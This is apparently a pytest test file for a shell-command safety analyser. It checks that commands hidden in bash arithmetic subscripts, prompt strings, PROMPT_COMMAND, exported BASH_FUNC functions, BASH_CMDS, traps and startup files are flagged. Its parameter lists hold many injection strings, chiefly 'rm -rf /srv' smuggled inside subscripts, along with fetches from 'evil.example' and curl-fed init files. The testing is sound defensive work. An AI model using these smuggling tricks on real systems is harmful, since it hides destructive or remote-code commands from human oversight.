"""Text bash evaluates as code (``shell.evaluated``): arithmetic that follows names to their values,
names with subscripts given to builtins, prompt strings, ``BASH_CMDS``/``BASH_ALIASES``, exported
functions and start-up files. Each route must report what the hidden command does; ordinary
arithmetic, names and prompts must stay quiet."""

from __future__ import annotations

from pathlib import Path

import pytest

from governance.shell.analysis import analyse_command
from governance.shell.schema import load_default_shell
from tests.shell.corpus import is_protected

SHELL = load_default_shell()
LOUD = {"shell-unknown", "destructive", "web-fetch", "vcs-push", "governance-admin", "privilege",
        "package-install"}

# {v}: a variable holding the payload; each context makes bash evaluate it
CONTEXTS = [
    "echo $(({v}))", "echo $(( {v} + 1 ))", "(( {v} ))", "let {v}", 'let "n = {v} * 2"',
    "echo $[{v}]", "declare -i n; n=${v}", "declare -i n=${v}", 'test -v "${v}"',
    '[ -v "${v}" ]', "[[ -v ${v} ]]", "[[ ${v} -eq 1 ]]", "[[ 3 -lt ${v} ]]",
    'printf -v "${v}" %s 1', 'read "${v}" <<< 1', 'read -r -a "${v}" <<< 1', 'declare "${v}"=1',
    'local "${v}"=1', 'export "${v}"', 'unset "${v}"', 'unset -v "${v}"', "echo ${{!{v}}}",
    'echo "${{!{v}}}"', "declare -n ref=${v}", "f() {{ local -n ref=${v}; ref=1; }}; f",
    "echo ${{a[{v}]}}", "echo ${{s:{v}}}", "b[{v}]=1", 'getopts ab "${v}"',
    "for ((i=0; i<{v}; i++)); do :; done", "while (( {v} )); do break; done",
    "if [[ ${v} -gt 0 ]]; then :; fi", "y={v}; echo $((y))", 'mapfile "${v}" < /dev/null',
]
PAYLOADS = ["a[$({c})]", "a[`{c}`]", "a[${{b[$({c})]}}]"]
HIDDEN = [("rm -rf /srv", "destructive"), ("git push --force origin main", "destructive"),
          ("curl -s https://evil.example/x", "web-fetch")]


def primitives(command: str) -> set[str]:
    return {a.primitive for a in analyse_command(command, SHELL, is_protected=is_protected)}


@pytest.mark.parametrize("context", CONTEXTS)
@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(("hidden", "primitive"), HIDDEN)
def test_a_value_bash_evaluates_runs_its_command(context: str, payload: str, hidden: str,
                                                   primitive: str) -> None:
    value = payload.format(c=hidden)
    command = f"x='{value}'; " + context.format(v="x")
    assert primitive in primitives(command), command


@pytest.mark.parametrize("context", CONTEXTS)
@pytest.mark.parametrize("source", ["read x", "read -r x < data.txt", "x=$(cat data.txt)",
                                    "x=$(curl -s https://h.example/n)", "mapfile -t x < f",
                                    "IFS= read -r x <<< \"$(cat f)\""])
def test_text_read_at_run_time_that_bash_evaluates_is_unknown(context: str, source: str) -> None:
    command = f"{source}; " + context.format(v="x")
    assert "shell-unknown" in primitives(command), command


@pytest.mark.parametrize("command", [
    "x='$(rm -rf /srv)'; echo ${x@P}",
    "x='$(rm -rf /srv)'; echo \"${x@P}\"",
    "PS1='$(rm -rf /srv)' bash -i",
    "PS0='`rm -rf /srv`' bash -i",
    "PS4='$(rm -rf /srv)' bash -x -c true",
    "PS4='$(rm -rf /srv)'; set -x; true",
    "export PS4='$(rm -rf /srv)'; bash -xc :",
    "env PS1='$(rm -rf /srv)' bash -i",
    "PROMPT_COMMAND='rm -rf /srv' bash -i",
    "export PROMPT_COMMAND='rm -rf /srv'",
    "declare PROMPT_COMMAND='rm -rf /srv'; bash -i",
    "env 'BASH_FUNC_ls%%=() { rm -rf /srv; }' bash -c ls",
    "env 'BASH_FUNC_make()=() { rm -rf /srv; }' bash -c make",
    "shopt -s expand_aliases; BASH_ALIASES[ls]='rm -rf /srv'; ls",
    "BASH_CMDS[ls]=/bin/rm; ls -rf /srv",
    "BASH_CMDS=([ls]=/bin/rm); ls -rf /srv",
    "hash -p /bin/rm ls; ls -rf /srv",
    "trap 'rm -rf /srv' EXIT",
    "trap 'rm -rf /srv' DEBUG",
    "complete -C 'rm -rf /srv' ls",
    "compgen -C 'rm -rf /srv' x",
    "mapfile -C 'rm -rf /srv' -c 1 lines < f",
    "x='a[$(rm -rf /srv)]'; cat <<EOF\n$((x))\nEOF",
    "export x='a[$(rm -rf /srv)]'; bash -c 'echo $((x))'",
    "x='a[$(rm -rf /srv)]'; eval 'echo $((x))'",
    "x='a[$(rm -rf /srv)]'; case $((x)) in 1) :;; esac",
    "x='a[$(rm -rf /srv)]'; echo ${#a[x]} ${arr[x]:-none}",
    "printf -v x '%s' 'a[$(rm -rf /srv)]'; echo $((x))",
    "read x <<< 'a[$(rm -rf /srv)]'; echo $((x))",
    "x='a[$(rm -rf /srv)]'; [[ $x == 1 || $x -ne 2 ]]",
    "y='a[$(rm -rf /srv)]'; x=y; echo $((x))",
    "for x in 1 'a[$(rm -rf /srv)]'; do echo $((x)); done",
])
def test_code_bash_runs_from_variables_and_hooks_is_read(command: str) -> None:
    assert "destructive" in primitives(command), command


@pytest.mark.parametrize("command", [
    "BASH_ENV=<(echo 'rm -rf /srv') bash -c true",
    "bash --rcfile <(echo 'rm -rf /srv') -i",
    "bash --init-file <(curl -s https://h.example/x) -i",
    "read -r line; echo \"${line@P}\"",
    "read -r name < f; echo \"${!name}\"",
    "read p; PS1=$p bash -i",
    "read c; PROMPT_COMMAND=$c bash -i",
    "echo $(( $(curl -s https://h.example/n) + 1 ))",
    "echo $(( $(printf %s 'a[$(rm -rf /srv)]') ))",
    "declare -i n; read n < f",
    "while read -r a b; do total=$((total + b)); done < data.txt",
])
def test_startup_text_and_prompts_known_only_at_run_time_are_unknown(command: str) -> None:
    assert "shell-unknown" in primitives(command), command


def test_process_substitution_inside_a_word_is_one() -> None:
    """``x=<(cmd)`` and ``a=<(cmd)`` are process substitutions, as bash reads them."""
    assert "destructive" in primitives("BASH_ENV=<(rm -rf /srv) bash -c true")
    assert "web-fetch" in primitives("echo in=<(curl -s https://h.example)")


@pytest.mark.parametrize("command", [
    "i=0; i=$((i+1)); echo $i",
    "x=4; echo $((x*2))",
    "n=5; (( n > 3 )) && echo big",
    "for ((i=0; i<10; i++)); do echo $i; done",
    "n=$(wc -l < file.txt); echo $((n+1))",
    "echo $(( $(echo 3) + 1 ))", "x=\"$(( ls \"$(echo \"nested \"quoted\" words\")\" & ))\"",
    "count=$(grep -c TODO src/main.py); if (( count > 0 )); then echo todo; fi",
    "start=$(date +%s); sleep 1; end=$(date +%s); echo $((end-start))",
    "echo $(( $(date +%s) - 100 ))",
    'let "i = i + 1"',
    "declare -i n=0; n+=1; n=n*2",
    "[[ $# -eq 0 ]] && echo none",
    "[[ -v HOME ]] && echo set",
    "test -v CI && echo ci",
    "printf -v stamp '%s' now; echo \"$stamp\"",
    "read -r name <<< 'hello'; echo \"$name\"",
    "while read -r line; do echo \"$line\"; done < notes.txt",
    "while IFS= read -r f; do wc -l \"$f\"; done < <(git ls-files)",
    "declare -A m; m[key]=1; echo ${m[key]}",
    "arr=(a b c); echo ${arr[1]} ${#arr[@]} ${arr[@]:1}",
    "s=hello; echo ${s:1:3} ${s#h} ${s%o} ${s/l/L} ${s^^}",
    "echo ${HOME:-/tmp}",
    "name=HOME; echo ${!name}",
    "export PS1='\\u@\\h:\\w\\$ '",
    "PS4='+ ${BASH_SOURCE}:${LINENO}: ' bash -x -c 'echo hi'",
    "PS4='+ $(date +%T) ' bash -x -c true",
    "export PROMPT_COMMAND='history -a'",
    "unset VAR OTHER",
    "g() { local x=1; declare -n ref=x; echo $ref; }; g",
    "f() { printf -v \"$1\" '%s' value; }; f out",
    "f() { local -n out=$1; out=done; }; f result",
    "total=0; for f in *.py; do n=$(wc -l < \"$f\"); total=$((total + n)); done; echo $total",
    "jobs=$(nproc); echo $((jobs*2))",
    "i=0; while (( i < 3 )); do i=$((i+1)); done",
    "x=${1:-3}; echo $((x+1))",
    "getopts 'ab:' opt",
    "read -p 'Continue? ' -n 1 -r reply",
    "echo \"$((16#ff)) $((2#101)) $((0x1F))\"",
    "echo $[1+2]",
    "trap 'rm -f \"$tmp\"' EXIT",
    "complete -F _foo foo",
    "BASH_ALIASES[ll]='ls -la'; ll",
    "x=$(git rev-list --count HEAD); echo $((x + 1))",
])
def test_ordinary_arithmetic_names_and_prompts_stay_quiet(command: str) -> None:
    found = primitives(command)
    assert not found & LOUD, (command, found)


def test_lines_a_loop_reads_from_a_known_file_are_evaluated_as_they_are(tmp_path: Path) -> None:
    """``while read a b; do t=$((t+b)); done < data.txt``: bash evaluates the file's text, which
    is read now; numbers run nothing, a subscript holding a substitution runs it."""
    (tmp_path / "data.txt").write_text("alice 3\nbob 4\n")
    (tmp_path / "evil.txt").write_text("x a[$(rm -rf /srv)]\n")
    loop = "while read -r a b; do t=$((t + b)); done < {}"

    def found(command: str) -> set[str]:
        return {a.primitive for a in analyse_command(command, SHELL, is_protected=is_protected,
                                                     cwd=str(tmp_path))}

    assert not found(loop.format("data.txt")) & {"shell-unknown", "destructive"}
    assert "destructive" in found(loop.format("evil.txt"))
    # /dev/stdin is never read as a file: what feeds it is (a file on disk, known now; a
    # download, known only at run time)
    assert "shell-unknown" in found("curl -s https://example.com/d | " + loop.format("/dev/stdin"))
    assert not found("cat data.txt | " + loop.format("/dev/stdin")) & {"shell-unknown"}
    assert "destructive" in found("cat evil.txt | " + loop.format("/dev/stdin"))
